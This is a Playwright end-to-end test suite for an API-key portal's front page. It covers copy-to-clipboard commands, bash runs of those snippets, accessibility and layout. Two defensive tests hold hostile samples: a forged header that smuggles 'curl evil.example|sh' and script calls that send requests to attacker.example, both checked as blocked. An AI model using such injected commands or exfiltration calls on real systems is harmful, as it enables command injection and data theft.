import type { Locator, Page } from "@playwright/test";
import { randomEmail } from "../support/client";
import { shared } from "../support/portal";
import { newService } from "../support/services";
import { expect, expectAccessible, expectNoSidewaysScrolling, layoutShift, runInBash, tabTo, test } from "./fixtures";

const copyButton = (page: Page, title: string): Locator => page.getByRole("button", { name: `Copy ${title}`, exact: true });

/** Presses the copy button of a block and answers what is then on the clipboard. */
async function copy(page: Page, title: string): Promise<string> {
  await copyButton(page, title).click();
  await expect(page.getByRole("button", { name: `Copied ${title}`, exact: true })).toBeVisible();
  return page.evaluate(() => navigator.clipboard.readText());
}

test.describe("On the front page a visitor", () => {
  test("can read what Latchkey is and how to get a first key, and comes to the docs", async ({ page }) => {
    const answer = await page.goto("/");
    expect(answer?.status()).toBe(200);
    await expect(page).toHaveTitle("Latchkey: API keys, looked after");
    await expect(page.getByRole("main")).toContainText("get, watch, replace and revoke their keys");
    await expect(page.getByRole("heading", { level: 3 })).toHaveText([/Make an account/, /Create the key/, /See what you have/]);
    await page.getByRole("link", { name: "Read the docs" }).first().click();
    await expect(page).toHaveURL("/docs");
  });

  test("gets from here to a copied key by five clicks and four fields, and sees its first call arrive", async ({
    page,
    context,
  }) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    const done = { clicks: 0, fields: 0 };
    const press = async (control: Locator) => {
      await control.click();
      done.clicks += 1;
    };
    const write = async (label: string, text: string) => {
      await page.getByLabel(label, { exact: true }).fill(text);
      done.fields += 1;
    };
    await page.goto("/");
    await press(page.getByRole("link", { name: "Sign up and get a key" }).first());
    await write("Name", "Asha Mrema");
    await write("E-mail address", randomEmail());
    await write("Password", "a long sentence");
    await press(page.getByRole("button", { name: "Create account" }));
    await press(page.getByRole("button", { name: "Create key" }));
    await write("Name", "Production");
    await press(page.getByRole("dialog").getByRole("button", { name: "Create key" }));
    await press(copyButton(page, "Key"));
    await expect(page.getByRole("button", { name: "Copied Key", exact: true })).toBeVisible();
    const key = await page.evaluate(() => navigator.clipboard.readText());
    expect(key).toMatch(/^mf_live_[0-9A-Za-z]{38}$/);
    expect(done).toStrictEqual({ clicks: 5, fields: 4 });
    const curl = await copy(page, "curl");
    expect(JSON.parse(runInBash(`curl() { command curl -sS "$@"; }\n${curl}`))).toMatchObject({
      valid: true,
      name: "Production",
    });
    await expect(page.getByRole("status").filter({ hasText: "The first call has arrived." })).toBeVisible();
  });

  test("can copy a command, sees and hears that it was copied", async ({ page, context, baseURL }) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.goto("/");
    const figure = page.getByRole("figure").filter({ has: copyButton(page, "Create a key") });
    expect(await copy(page, "Create a key")).toBe(
      [
        `curl -X POST ${baseURL}/api/auth/keys/create/ \\`,
        '  -H "Authorization: Bearer $TOKEN" \\',
        '  -H "Content-Type: application/json" \\',
        "  -d '{",
        '    "key_name": "My first key"',
        "  }'",
      ].join("\n"),
    );
    await expect(page.getByRole("status").filter({ hasText: "Copied to the clipboard." })).toHaveCount(1);
    await expect(copyButton(page, "Create a key")).toBeVisible();
    await expect(figure.getByText("curl -X POST")).toBeVisible();
  });

  test("gets the text selected where the clipboard is refused", async ({ page }) => {
    await page.addInitScript(() => {
      Object.defineProperty(navigator, "clipboard", { value: undefined });
      document.execCommand = () => false;
    });
    await page.goto("/");
    await copyButton(page, "List your keys").click();
    await expect(page.getByRole("button", { name: "Press Ctrl+C" })).toBeVisible();
    await expect(page.getByRole("status").filter({ hasText: "The text is selected" })).toHaveCount(1);
    expect(await page.evaluate(() => getSelection()?.toString().trim())).toMatch(/^curl http.*\n.*Bearer \$TOKEN"$/);
  });

  test("gets a working key by pasting the commands into bash", async ({ page, context }) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.goto("/");
    const email = randomEmail();
    const register = await copy(page, "Register");
    expect(register.split("\n")[0]).toBe("EMAIL=you@example.com");
    const script = [
      register.replace("you@example.com", email),
      "echo '---'",
      await copy(page, "Create a key"),
      "echo; echo '---'",
      await copy(page, "List your keys"),
    ].join("\n");
    const [signedUp = "", created = "", listed = ""] = runInBash(script).split("---\n");

    expect(signedUp).toMatch(/^Your password: \S{20}\n$/);
    const { data: key } = JSON.parse(created);
    expect(key.key_name).toBe("My first key");
    expect(JSON.parse(listed).data.api_keys.map(({ id }: { id: string }) => id)).toStrictEqual([key.id]);
    const verdict = await fetch(`${shared().url}/api/keys/verify`, {
      method: "POST",
      headers: { Authorization: `Bearer ${shared().settings.SERVICE_API_SECRET}`, "Content-Type": "application/json" },
      body: JSON.stringify({ key: key.api_key, secret: key.secret_key }),
    });
    expect(await verdict.json()).toMatchObject({ valid: true, key_id: key.id });

    await page.getByText("You have an account, or the hour is over").click();
    const password = signedUp.replace("Your password: ", "").trim();
    const again = `${await copy(page, "Sign in")}\n${await copy(page, "List your keys")}`;
    const [signedIn = "", listedAgain = ""] = runInBash(again, { EMAIL: email, PASSWORD: password }).split(/\n(.*)/s);
    expect(signedIn).toBe("Signed in");
    expect(JSON.parse(listedAgain).data.api_keys).toHaveLength(1);
  });

  test("sees why registering failed, instead of an empty token", async ({ page, context }) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.goto("/");
    const register = (await copy(page, "Register")).replace("you@example.com", randomEmail());
    expect(runInBash(`${register}\n${register}`)).toMatch(
      /^Your password: .*\n\{"email":\["user with this email already exists\."\]\}\n$/,
    );
  });

  test("of the staff creates and lists keys by pasting the commands into bash", async ({ page, context }) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.goto("/");
    const body = {
      email: randomEmail(),
      password: "long-enough-1",
      password_confirm: "long-enough-1",
      first_name: "A",
      last_name: "B",
    };
    const registered = await fetch(`${shared().url}/api/auth/register/`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify(body),
    });
    const { user } = (await registered.json()) as { user: { id: string } };
    // A service's credential goes where the shared secret goes, which another test switches off.
    const { credential } = await newService({ scopes: ["admin:read", "admin:write"] });
    const variables = { ADMIN_API_SECRET: credential, USER_ID: user.id };
    const { key } = JSON.parse(runInBash(await copy(page, "Create a key for a user"), variables));
    expect(key).toMatchObject({ name: "Issued by staff", key: expect.stringMatching(/^datazag_[0-9a-f]{64}$/) });
    const { keys } = JSON.parse(runInBash(await copy(page, "List everyone’s keys"), variables));
    expect(keys.map(({ id }: { id: number }) => id)).toContain(key.id);
  });

  test("sees the portal in the colours they chose, in pictures that are there", async ({ page }) => {
    const shown = () =>
      page.locator("picture img").evaluateAll((pictures) =>
        pictures.map((picture) => {
          const { currentSrc, naturalWidth, width, naturalHeight, height } = picture as HTMLImageElement;
          return {
            file: new URL(currentSrc).pathname,
            isInShape: Math.abs(naturalWidth / naturalHeight - width / height) < 0.01,
          };
        }),
      );
    for (const theme of ["light", "dark"] as const) {
      await page.emulateMedia({ colorScheme: theme });
      await page.goto("/");
      for (const picture of await page.locator("picture img").all()) await picture.scrollIntoViewIfNeeded();
      const names = ["keys", "save-your-key", "staff"];
      const expected = names.map((name) => ({ file: `/pictures/${name}-${theme}.webp`, isInShape: true }));
      await expect.poll(shown).toStrictEqual(expected);
      expect(await layoutShift(page)).toBeLessThan(0.02);
    }
  });

  test("has a pasted key judged by its checksum, and nothing of it leaves the page", async ({ page }) => {
    await page.goto("/");
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url() + (request.postData() ?? "")));
    const field = page.getByLabel("Try it: paste a key");
    const parts = page.getByRole("figure", { name: "The parts of a credential" });
    await page.getByRole("button", { name: "Make one up" }).click();
    const key = await field.inputValue();
    await expect(page.getByRole("status").filter({ hasText: "Its checksum is right." })).toBeVisible();
    await expect(parts).toContainText(key.slice(-6));
    await page.getByRole("button", { name: "Change a character" }).click();
    await expect(page.getByRole("status").filter({ hasText: "its checksum is wrong" })).toBeVisible();
    await expect(parts).toContainText("it does not fit the rest");
    await expectAccessible(page);
    await field.fill(` ${key} `);
    await expect(page.getByRole("status").filter({ hasText: "Its checksum is right." })).toBeVisible();
    await field.fill(key.slice(0, -1));
    await expect(page.getByRole("status").filter({ hasText: "it is cut short" })).toBeVisible();
    expect(requests.filter((request) => request.includes(key.slice(8, 20)))).toStrictEqual([]);
  });

  test("sees in the commands the address that led here, never what a forged header says", async () => {
    const { port } = new URL(shared().url);
    const direct = await (await fetch(`http://127.0.0.1:${port}/`)).text();
    expect(direct).toContain(`curl http://127.0.0.1:${port}/api/auth/settings/`);
    const proxied = await fetch(shared().url, {
      headers: { "X-Forwarded-Host": "keys.example.com", "X-Forwarded-Proto": "https" },
    });
    expect(await proxied.text()).toContain("curl https://keys.example.com/api/auth/settings/");
    const forged = await fetch(shared().url, { headers: { "X-Forwarded-Host": "x;curl evil.example|sh" } });
    const html = await forged.text();
    expect(html).not.toContain("evil");
    expect(html).toContain(`curl ${shared().url}/api/auth/settings/`);
  });

  test("reaches the health page", async ({ page }) => {
    await page.goto("/");
    await page.getByRole("link", { name: "Health of this server" }).click();
    await expect(page).toHaveURL(/\/api\/health$/);
    await expect(page.locator("body")).toContainText('"status":"ok"');
  });

  test("can do it all with the keyboard alone", async ({ page, context }) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.goto("/");
    await page.keyboard.press("Tab");
    const skip = page.getByRole("link", { name: "Skip to content" });
    await expect(skip).toBeFocused();
    await expect(skip).toBeInViewport({ ratio: 1 });
    await page.keyboard.press("Enter");
    await expect(page.getByRole("main")).toBeFocused();
    await tabTo(page, "Sign up and get a key");
    await tabTo(page, "Copy Register");
    const outline = await page.locator(":focus").evaluate((element) => getComputedStyle(element).outlineWidth);
    expect(outline).toBe("2px");
    await page.keyboard.press("Enter");
    await expect(page.getByRole("button", { name: "Copied Register" })).toBeFocused();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain("/api/auth/register/");
    await tabTo(page, "You have an account");
    await page.keyboard.press("Space");
    await expect(copyButton(page, "Sign in")).toBeVisible();
    await tabTo(page, "Health of this server");
    await page.keyboard.press("Enter");
    await expect(page).toHaveURL(/\/api\/health$/);
  });

  for (const width of [320, 360, 768, 1440, 3840]) {
    test(`can read it on a screen ${width} pixels wide without scrolling sideways`, async ({ page }) => {
      await page.setViewportSize({ width, height: 800 });
      await page.goto("/");
      await page.getByText("You have an account, or the hour is over").click();
      await expectNoSidewaysScrolling(page);
      for (const button of await page.getByRole("button").all()) await expect(button).toBeVisible();
    });
  }

  for (const path of ["/", "/docs/your-keys"])
    test(`sees nothing move at ${path} when the typeface arrives`, async ({ page }) => {
      const fonts: (() => void)[] = [];
      await page.route("**/*.woff2", (route) => {
        fonts.push(() => void route.continue());
      });
      await page.goto(path, { waitUntil: "domcontentloaded" });
      const face = () => page.evaluate(() => document.fonts.check('16px "Inter Variable"'));
      await expect.poll(() => fonts.length).toBeGreaterThan(0);
      expect(await face()).toBe(false);
      for (const release of fonts) release();
      await expect.poll(face).toBe(true);
      expect(await layoutShift(page)).toBeLessThan(0.02);
    });

  test("finds an icon and a manifest whose files are there", async ({ page, baseURL }) => {
    await page.goto("/");
    const links = await page
      .locator("link[rel~=icon], link[rel=apple-touch-icon], link[rel=manifest]")
      .evaluateAll((elements) => elements.map((element) => (element as HTMLLinkElement).href));
    expect(links.map((link) => new URL(link).pathname)).toStrictEqual(
      expect.arrayContaining(["/manifest.webmanifest", "/favicon.ico", "/icon.svg", "/apple-icon.png"]),
    );
    const manifest = await (await fetch(`${baseURL}/manifest.webmanifest`)).json();
    const icons = manifest.icons.map(({ src }: { src: string }) => baseURL + src);
    for (const address of [...links, ...icons]) expect(`${address} ${(await fetch(address)).status}`).toMatch(/ 200$/);
  });

  test("meets no accessibility problem, in light and in dark", async ({ page }) => {
    await page.goto("/");
    await page.getByText("You have an account, or the hour is over").click();
    await expectAccessible(page);
  });

  test("sees it in the colours that the system asks for", async ({ page }) => {
    const background = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
    await page.emulateMedia({ colorScheme: "light" });
    await page.goto("/");
    expect(await background()).toBe("rgb(255, 255, 255)");
    await page.emulateMedia({ colorScheme: "dark" });
    expect(await background()).toBe("rgb(14, 14, 16)");
  });
});

test.describe("Without JavaScript a visitor", () => {
  test.use({ javaScriptEnabled: false });

  test("can read every command, and meets no button that does nothing", async ({ page }) => {
    await page.goto("/");
    await expect(page.getByText("EMAIL=you@example.com")).toBeVisible();
    await expect(page.getByText('"key_name": "My first key"', { exact: false }).first()).toBeVisible();
    await page.getByText("You have an account, or the hour is over").click();
    await expect(page.getByText("/api/auth/login/").first()).toBeVisible();
    await expect(page.getByRole("button")).toHaveCount(0);
  });
});

test.describe("A page under attack", () => {
  test.use({ expectedProblems: /Content Security Policy/ });

  test("cannot send anything elsewhere or move its links", async ({ page }) => {
    await page.goto("/");
    const refused = await page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          const directives: string[] = [];
          document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
            directives.push(effectiveDirective);
            if (directives.length === 3) resolve(directives.sort());
          });
          fetch("https://attacker.example/").catch(() => undefined);
          new Image().src = "https://attacker.example/";
          document.head.append(Object.assign(document.createElement("base"), { href: "https://attacker.example/" }));
        }),
    );
    expect(refused).toStrictEqual(["base-uri", "connect-src", "img-src"]);
  });

  test("cannot be shown in another page's frame", async ({ page, baseURL }) => {
    await page.goto("/api/health");
    const frame = `<iframe src="${baseURL}/"></iframe>`;
    await page.setContent(frame);
    await expect.poll(() => page.frames().length).toBe(2);
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  });
});
